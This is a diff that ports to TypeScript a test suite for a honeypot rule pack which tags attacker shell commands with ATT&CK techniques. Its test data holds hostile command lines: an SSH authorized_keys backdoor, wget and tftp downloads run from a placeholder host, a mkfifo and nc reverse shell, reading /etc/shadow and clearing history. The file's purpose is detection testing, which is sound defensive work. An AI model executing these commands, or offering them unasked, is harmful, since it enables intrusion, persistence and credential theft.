@@ -2,11 +2,13 @@ import assert from 'node:assert/strict'
 import {basename} from 'node:path'
 import {before, describe, it} from 'node:test'
 
-import {Matcher, MAX_EVIDENCE_LENGTH, MAX_TEXT_LENGTH} from '../../dist/ttp/matcher.js'
-import {loadRules} from '../../dist/ttp/rule-loader.js'
+import type {NewTtpTag} from '../../src/db/schema.js'
+import {Matcher, MAX_EVIDENCE_LENGTH, MAX_TEXT_LENGTH} from '../../src/ttp/matcher.js'
+import {loadRules} from '../../src/ttp/rule-loader.js'
+import type {CompiledRule} from '../../src/ttp/rule-schema.js'
 
 // The ATT&CK Enterprise tactics each technique the pack uses belongs to.
-const TACTICS_OF = {
+const TACTICS_OF: Readonly<Record<string, readonly string[]>> = {
   T1003: ['TA0006'], T1016: ['TA0007'], T1018: ['TA0007'], T1021: ['TA0008'], T1027: ['TA0005'], T1033: ['TA0007'],
   T1037: ['TA0003', 'TA0004'], T1046: ['TA0007'], T1049: ['TA0007'], T1053: ['TA0002', 'TA0003', 'TA0004'], T1057: ['TA0007'],
   T1059: ['TA0002'], T1069: ['TA0007'], T1070: ['TA0005'], T1082: ['TA0007'], T1083: ['TA0007'], T1087: ['TA0007'],
@@ -36,7 +38,7 @@ const BENIGN = [
 ]
 
 // Whole honeypot sessions and the (sub-)techniques they must yield, no more and no fewer.
-const SESSIONS = [
+const SESSIONS: ReadonlyArray<readonly [string, readonly string[]]> = [
   ['cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
     ['T1070.004', 'T1098.004']],
   ['cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh',
@@ -54,8 +56,8 @@ const SESSIONS = [
 ]
 
 describe('the shipped rule pack', () => {
-  let rules
-  let matcher
+  let rules: readonly CompiledRule[] = []
+  let matcher: Matcher
   before(async () => {
     const loaded = await loadRules()
     assert.deepEqual(loaded.problems, [], 'the shipped pack loads without problems')
@@ -63,7 +65,7 @@ describe('the shipped rule pack', () => {
     matcher = new Matcher(rules)
   })
 
-  const techniques = (text) => [...new Set(tagsFor(matcher, text).map((tag) => tag.sub_technique_id ?? tag.technique_id))].sort()
+  const techniques = (text: string): string[] => [...new Set(tagsFor(matcher, text).map((tag) => tag.sub_technique_id ?? tag.technique_id))].sort()
 
   it('has broad coverage, one file per tactic area, and unique ids', () => {
     assert.ok(rules.length >= 40, `only ${rules.length} rules`)
@@ -81,7 +83,7 @@ describe('the shipped rule pack', () => {
     for (const rule of rules) {
       for (const emit of rule.emits) {
         assert.ok(TACTICS_OF[emit.technique], `${rule.id}: ${emit.technique} is not in the test's tactic table`)
-        assert.ok(TACTICS_OF[emit.technique].includes(emit.tactic), `${rule.id}: ${emit.technique} is not a ${emit.tactic} technique`)
+        assert.ok(TACTICS_OF[emit.technique]?.includes(emit.tactic), `${rule.id}: ${emit.technique} is not a ${emit.tactic} technique`)
       }
     }
   })
@@ -121,6 +123,7 @@ describe('the shipped rule pack', () => {
     for (let pad = 0; pad < 4; pad++) {
       const text = `wget http://203.0.113.7/${'a'.repeat(MAX_EVIDENCE_LENGTH - 27 + pad)}${'😀'.repeat(8)}`
       const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
+      assert.ok(tag, `pad ${pad}: no T1105 tag`)
       assert.ok(tag.evidence.endsWith('…'), tag.evidence)
       assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
       assert.ok(!/[\ud800-\udbff]…$/.test(tag.evidence), `pad ${pad}: ${JSON.stringify(tag.evidence.slice(-3))}`)
@@ -138,7 +141,7 @@ describe('the shipped rule pack', () => {
 
   describe('padding cannot hide a payload', () => {
     const BARE = 'wget http://203.0.113.9/x.sh; sh x.sh; cat /etc/shadow; crontab -l; history -c'
-    const PADDED = {
+    const PADDED: Readonly<Record<string, string>> = {
       'a 4,100-character no-op in front': `: ${'A'.repeat(4100)}; ${BARE}`,
       'true; a thousand times in front': `${'true;'.repeat(1000)}${BARE}`,
     }
@@ -178,6 +181,7 @@ describe('the shipped rule pack', () => {
     it('keeps evidence with a cut note within its bound', () => {
       const text = `: ${'A'.repeat(5000)}; wget http://203.0.113.7/${'a'.repeat(400)}`
       const [tag] = tagsFor(matcher, text).filter((t) => t.technique_id === 'T1105')
+      assert.ok(tag, 'no T1105 tag')
       assert.match(tag.evidence, /^wget http:\/\/203\.0\.113\.7\/a+… \[cut: rules saw [\d,]+ of [\d,]+ characters\]$/)
       assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1)
     })
@@ -191,7 +195,7 @@ describe('the shipped rule pack', () => {
 
     it('bounds the rules\' work on hostile splitting inputs by counting windows and regular expressions run', () => {
       const mb = 1024 * 1024
-      const hostile = {
+      const hostile: Readonly<Record<string, string>> = {
         'quotes holding ;': `echo '${'a;'.repeat(mb / 4)}'; ${BARE}`,
         'a precise pad before a mkfifo shell': `: ${'A'.repeat(4010)}; ${'a;'.repeat(30)}rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f`,
         'unbalanced $(': `${'$('.repeat(mb / 2)}${BARE}`,
@@ -221,7 +225,7 @@ describe('the shipped rule pack', () => {
       'ssh ', 'sudo ', 'grep -r ', 'echo ', 'mkfifo ', 'nc ', 'HISTFILE=', 'Aa1+', 'xmrig ', ' -o pool', '/etc/passwd ', 'cat ', 'base64 ',
       '"', "'", '|', 'chmod ', 'find ', 'socket ', '<?php eval(', 'config set dir ', 'into outfile \'', '4A']
     let state = 42
-    const rand = (n) => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
+    const rand = (n: number): number => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
     const texts = units.flatMap((unit) => ['', '!', '\n'].map((end) => unit.repeat(Math.ceil(8192 / unit.length)) + end))
     for (let i = 0; i < 300; i++) {
       let text = ''
@@ -229,10 +233,23 @@ describe('the shipped rule pack', () => {
       texts.push(text)
     }
 
-    for (const text of texts) tagsFor(matcher, text)
+    // The timeout is what catches backtracking; these make what "gets through" means explicit: every text is
+    // matched within the matcher's work bounds (characters examined, windows, regular expressions run) and
+    // yields only tags of shipped rules with bounded evidence.
+    assert.equal(texts.length, units.length * 3 + 300)
+    for (const [i, text] of texts.entries()) {
+      const match = matcher.match('command', text)
+      assert.ok(match.examined <= 6 * text.length, `text ${i}: examined ${match.examined} of ${text.length}`)
+      assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `text ${i}: ${match.windows} windows`)
+      assert.ok(match.regexRuns <= rules.length * match.windows, `text ${i}: ${match.regexRuns} regular expressions over ${match.windows} windows`)
+      for (const tag of tagsFor(matcher, text)) {
+        assert.ok(rules.some((rule) => rule.id === tag.rule_id), `text ${i}: unknown rule ${tag.rule_id}`)
+        assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1, `text ${i}: ${tag.rule_id} evidence of ${tag.evidence.length}`)
+      }
+    }
   })
 })
 
-function tagsFor(matcher, command) {
+function tagsFor(matcher: Matcher, command: string): NewTtpTag[] {
   return matcher.tags({attacker_ip: '203.0.113.7', id: 1, timestamp: '2026-11-26T13:32:51.123Z'}, {command})
 }
